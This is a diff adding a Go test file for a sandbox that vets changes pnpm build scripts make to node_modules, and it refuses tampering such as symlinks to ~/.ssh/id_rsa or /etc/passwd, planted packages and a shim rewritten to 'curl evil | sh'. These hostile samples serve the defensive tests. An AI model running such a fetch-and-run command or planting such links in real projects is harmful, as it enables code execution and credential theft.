@@ -1,0 +1,157 @@
+package pnpm
+
+import (
+	"crypto/sha256"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/safe-install/safe-install/sandbox/tree"
+)
+
+func file(s string) tree.Entry { return tree.FileEntry(0o644, sha256.Sum256([]byte(s))) }
+func dir() tree.Entry          { return tree.Entry{Kind: tree.Dir} }
+func link(t string) tree.Entry { return tree.Entry{Kind: tree.Symlink, Target: t} }
+
+// fetched is pnpm's layout for esbuild (which builds) and left-pad (which
+// does not), as pnpm 12.23.0 lays it out.
+func fetched() tree.Tree {
+	return tree.Tree{
+		"node_modules":                                                      dir(),
+		"node_modules/.bin":                                                 dir(),
+		"node_modules/.bin/esbuild":                                         tree.FileEntry(0o755, sha256.Sum256([]byte("shim"))),
+		"node_modules/.modules.yaml":                                        file("{}"),
+		"node_modules/.pnpm":                                                dir(),
+		"node_modules/.pnpm/lock.yaml":                                      file("lock"),
+		"node_modules/.pnpm/node_modules":                                   dir(),
+		"node_modules/.pnpm/esbuild@0.23.1":                                 dir(),
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules":                    dir(),
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild":            dir(),
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/install.js": file("install"),
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild":           dir(),
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64": link("../../../@esbuild+linux-x64@0.23.1/node_modules/@esbuild/linux-x64"),
+		"node_modules/.pnpm/left-pad@1.3.0":                                 dir(),
+		"node_modules/.pnpm/left-pad@1.3.0/node_modules":                    dir(),
+		"node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad":           dir(),
+		"node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js":  file("pad"),
+		"node_modules/esbuild":                                              link(".pnpm/esbuild@0.23.1/node_modules/esbuild"),
+		"node_modules/left-pad":                                             link(".pnpm/left-pad@1.3.0/node_modules/left-pad"),
+	}
+}
+
+func esbuildBuilt(before tree.Tree) *pnpmTree {
+	return newPnpmTree(before, map[string]bool{"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild": true},
+		map[string]tree.Sum{"node_modules/.bin/esbuild": sha256.Sum256([]byte("rewritten"))}, []string{"esbuild@0.23.1"})
+}
+
+func TestRuleAcceptsTheFetchAndABuildOfItsOwn(t *testing.T) {
+	after := fetched()
+	after["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/bin"] = dir()
+	after["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("ELF")))
+	after["node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("rewritten")))
+	after["node_modules/.modules.yaml"] = file(`{"pendingBuilds":[]}`)
+	after["node_modules/.cache"] = dir()
+	after["node_modules/.cache/x"] = file("x")
+	r := esbuildBuilt(fetched())
+	if name, reason := r.CheckAll(after); name != "" {
+		t.Fatalf("refused %s: %s", name, reason)
+	}
+	if name, reason := r.Missing([]string{"node_modules"}); name != "" {
+		t.Fatalf("missing %s: %s", name, reason)
+	}
+	if w := r.Warnings(); len(w) != 1 || !strings.Contains(w[0], "node_modules/.cache") {
+		t.Fatalf("warnings %q, want one naming node_modules/.cache", w)
+	}
+}
+
+func TestRuleRefuses(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		change func(tree.Tree)
+		entry  string
+		reason string
+	}{
+		{"another package's file", func(a tree.Tree) {
+			a["node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js"] = file("evil")
+		}, "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js", "left-pad@1.3.0 ran no build"},
+		{"a link out of node_modules", func(a tree.Tree) {
+			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key"] = link("../../../../../../home/user/.ssh/id_rsa")
+		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key", "outside node_modules"},
+		{"an absolute link", func(a tree.Tree) {
+			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key"] = link("/etc/passwd")
+		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key", "outside node_modules"},
+		{"a re-pointed top-level link", func(a tree.Tree) {
+			a["node_modules/left-pad"] = link(".pnpm/esbuild@0.23.1/node_modules/esbuild")
+		}, "node_modules/left-pad", "changed by a script"},
+		{"a planted package", func(a tree.Tree) {
+			a["node_modules/lodash"] = link(".pnpm/esbuild@0.23.1/node_modules/esbuild")
+		}, "node_modules/lodash", "did not install"},
+		{"a new virtual store entry", func(a tree.Tree) {
+			a["node_modules/.pnpm/evil@1.0.0"] = dir()
+		}, "node_modules/.pnpm/evil@1.0.0", "does not explain"},
+		{"a shim rewritten otherwise", func(a tree.Tree) {
+			a["node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("curl evil | sh")))
+		}, "node_modules/.bin/esbuild", "shim"},
+		{"pnpm's lockfile copy", func(a tree.Tree) {
+			a["node_modules/.pnpm/lock.yaml"] = file("other")
+		}, "node_modules/.pnpm/lock.yaml", "record"},
+		{"a dependency link in the store", func(a tree.Tree) {
+			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64"] = link("../../../left-pad@1.3.0/node_modules/left-pad")
+		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64", "changed by a script"},
+		{"a project file", func(a tree.Tree) { a[".npmrc"] = file("x") }, ".npmrc", "project"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			after := fetched()
+			c.change(after)
+			name, reason := esbuildBuilt(fetched()).CheckAll(after)
+			if name != c.entry || !strings.Contains(reason, c.reason) {
+				t.Fatalf("refused %q (%s), want %q with %q", name, reason, c.entry, c.reason)
+			}
+		})
+	}
+}
+
+func TestRuleRefusesADeletedFileOfAnotherPackage(t *testing.T) {
+	after := fetched()
+	delete(after, "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js")
+	r := esbuildBuilt(fetched())
+	if name, _ := r.CheckAll(after); name != "" {
+		t.Fatalf("refused %s", name)
+	}
+	if name, reason := r.Missing([]string{"node_modules"}); name != "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js" {
+		t.Fatalf("missing %q (%s)", name, reason)
+	}
+}
+
+// The shims are pnpm 12.23.0's for esbuild 0.23.1 as the fetch made it and
+// after its postinstall replaced bin/esbuild with the native binary.
+func TestDirectFormIsPnpmsRewrite(t *testing.T) {
+	before, err := os.ReadFile("testdata/shim-fetched")
+	if err != nil {
+		t.Fatal(err)
+	}
+	after, err := os.ReadFile("testdata/shim-built")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, target, ok := directForm(string(before))
+	if !ok || got != string(after) || target != "../.pnpm/esbuild@0.23.1/node_modules/esbuild/bin/esbuild" {
+		t.Fatalf("directForm: ok %v, target %q, same as pnpm's %v", ok, target, got == string(after))
+	}
+	if _, _, ok := directForm(string(after)); ok {
+		t.Fatal("a shim already in the direct form has no second rewrite")
+	}
+}
+
+func TestPackageID(t *testing.T) {
+	for dir, want := range map[string]string{
+		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild":                       "esbuild@0.23.1",
+		"node_modules/.pnpm/@esbuild+linux-x64@0.23.1/node_modules/@esbuild/linux-x64": "@esbuild/linux-x64@0.23.1",
+		"node_modules/.pnpm/react-dom@18.2.0_react@18.2.0/node_modules/react-dom":      "react-dom@18.2.0",
+		"node_modules/left-pad": "left-pad",
+	} {
+		if got := packageID(dir); got != want {
+			t.Errorf("packageID(%q) = %q, want %q", dir, got, want)
+		}
+	}
+}
